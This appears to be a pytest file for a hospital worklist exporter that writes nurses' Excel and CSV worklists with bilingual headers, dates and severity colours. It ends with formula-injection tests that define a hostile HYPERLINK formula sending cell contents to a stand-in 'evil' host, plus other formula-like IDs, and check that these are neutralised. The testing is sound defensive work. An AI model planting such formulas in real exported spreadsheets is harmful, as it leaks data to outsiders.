"""Worklist files for nurses: the Excel workbook (bilingual headers, one row per item, Chinese
titles, real dates) and the CSV, as bytes for the command line and the web app alike."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook

from bonepath.engine.findings import Finding
from bonepath.population.export import headers, worklist_csv, worklist_xlsx
from bonepath.population.registry import RegistryEvaluation, evaluate_registry
from bonepath.population.worklist import WorklistFilter, WorklistItem
from bonepath.vocab import FindingKind, Severity
from population.support import AS_OF, small_registry_records, stored


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RegistryEvaluation]:
    url = f"sqlite:///{tmp_path_factory.mktemp('export') / 'store.sqlite3'}"
    with stored(url, small_registry_records()) as store:
        yield evaluate_registry(store, AS_OF)


def test_xlsx_has_a_title_bilingual_headers_and_one_row_per_item(
    registry: RegistryEvaluation,
) -> None:
    items = registry.items(WorklistFilter(hospitals={"H01"}))
    book = load_workbook(io.BytesIO(worklist_xlsx(items, AS_OF, registry.rules_version)))
    sheet = book["工作清单"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == f"工作清单 · 评估日期 2026-09-30 · 规则版本 1.1.0 · {len(items)} 项"
    assert list(rows[1]) == headers() == headers("zh")
    assert rows[1][0] == "评估日期" and rows[1][3] == "逾期天数" and rows[1][12] == "内容"
    assert len(rows) == 2 + len(items)
    at = next(n for n, row in enumerate(rows) if row[10] == "ADH-03")  # after overdue scans
    first = rows[at]
    assert first[0] == dt.datetime(2026, 9, 30)  # a real Excel date, not text
    assert first[1:] == (
        "高",
        dt.datetime(2026, 8, 24),
        37,  # days overdue, a number
        "P0001",
        None,  # no identity in this record: empty cells
        None,
        "his-a",
        "H01",
        "肿瘤科",  # the page's words, not "oncology"
        "ADH-03",
        "待办",
        "逾期超过4周：主动随访",
        "地舒单抗 逾期 37 天",
        "药物 地舒单抗；到期日 2026-08-24；逾期 37天",
    )
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == f"A2:O{len(rows)}"
    assert sheet[f"B{at + 1}"].fill.fgColor.rgb.endswith("FFEB9C")  # high: amber


def test_xlsx_in_english_and_empty(registry: RegistryEvaluation) -> None:
    items = registry.items(WorklistFilter(rules={"SAFE-05"}))
    book = load_workbook(io.BytesIO(worklist_xlsx(items, AS_OF, "1.0.0", "en")))
    rows = list(book["Worklist"].iter_rows(values_only=True))
    assert rows[1][:4] == ("As of", "Severity", "Due", "Days overdue")
    assert rows[2][1] == "high" and rows[2][11] == "alert" and rows[2][10] == "SAFE-05"
    empty = load_workbook(io.BytesIO(worklist_xlsx([], AS_OF, "1.0.0")))
    assert (
        next(empty.active.iter_rows(values_only=True))[0]
        == "工作清单 · 评估日期 2026-09-30 · 规则版本 1.0.0 · 0 项"
    )


def test_csv_bytes_open_in_excel(registry: RegistryEvaluation) -> None:
    data = worklist_csv(registry.items(WorklistFilter(rules={"ADH-03"})))
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == headers() and len(table) == 3
    assert {row[12] for row in table[1:]} == {"逾期超过4周：主动随访"}


def test_xlsx_rows_follow_their_items_fill_and_empty_due(registry: RegistryEvaluation) -> None:
    """Every item's row: red for critical, amber for high, no fill otherwise; an item without a
    due date leaves the due cell empty (not an empty string, which Excel sorts as text)."""
    items = registry.items(WorklistFilter())
    sheet = load_workbook(io.BytesIO(worklist_xlsx(items, AS_OF, "1.0.0")))["工作清单"]
    rows = list(sheet.iter_rows(min_row=3))
    assert len(rows) == len(items)
    expected_fill = {"critical": "FFC7CE", "high": "FFEB9C"}
    undated = 0
    for item, row in zip(items, rows, strict=True):
        assert row[4].value == item.patient and row[10].value == item.rule
        assert row[3].value == (item.days_overdue or None)
        fill = expected_fill.get(item.severity.value)
        if fill:
            assert row[1].fill.fgColor.rgb.endswith(fill)
        else:
            assert row[1].fill.fill_type is None
        if item.due is None:
            undated += 1
            assert row[2].value is None
        else:
            assert row[2].value == dt.datetime.combine(item.due, dt.time())
            assert row[2].number_format == "yyyy-mm-dd"
    assert 0 < undated < len(items)
    assert {item.severity.value for item in items} >= {"high", "medium"}


# ---- formula injection (issue 13 item 3) -----------------------------------------------------

EVIL_ID = '=HYPERLINK("http://evil/?"&A1,"x")'


def _hostile_item() -> WorklistItem:
    """An item whose patient, source and hospital ids came from a hostile import file."""
    finding = Finding(
        rule="ADH-03",
        kind=FindingKind.ACTION,
        severity=Severity.HIGH,
        title_zh="逾期超过4周：主动随访",
        title_en="overdue by more than 4 weeks",
        due=dt.date(2026, 8, 24),
        values={"drug": "denosumab", "overdue_days": 37},
        sources=("test",),
    )
    return WorklistItem(EVIL_ID, "@SUM(1+1)", "-2+3", "oncology", AS_OF, finding)


def test_xlsx_holds_hostile_ids_as_text_never_as_formulas() -> None:
    data = worklist_xlsx([_hostile_item()], AS_OF, "1.0.0")
    sheet = load_workbook(io.BytesIO(data))["工作清单"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    row = list(sheet.iter_rows(min_row=3, values_only=True))[0]
    assert (row[4], row[7], row[8]) == (EVIL_ID, "@SUM(1+1)", "-2+3")  # text kept as it was
    assert sheet["A3"].value == dt.datetime(2026, 9, 30) and sheet["A3"].is_date
    assert sheet["C3"].value == dt.datetime(2026, 8, 24)  # dates stay Excel dates


def test_csv_neutralises_hostile_ids_with_a_leading_quote() -> None:
    table = list(csv.reader(io.StringIO(worklist_csv([_hostile_item()]).decode("utf-8-sig"))))
    assert [table[1][i] for i in (4, 7, 8)] == ["'" + EVIL_ID, "'@SUM(1+1)", "'-2+3"]
    assert table[1][0] == "2026-09-30" and table[1][10] == "ADH-03"  # other cells unchanged
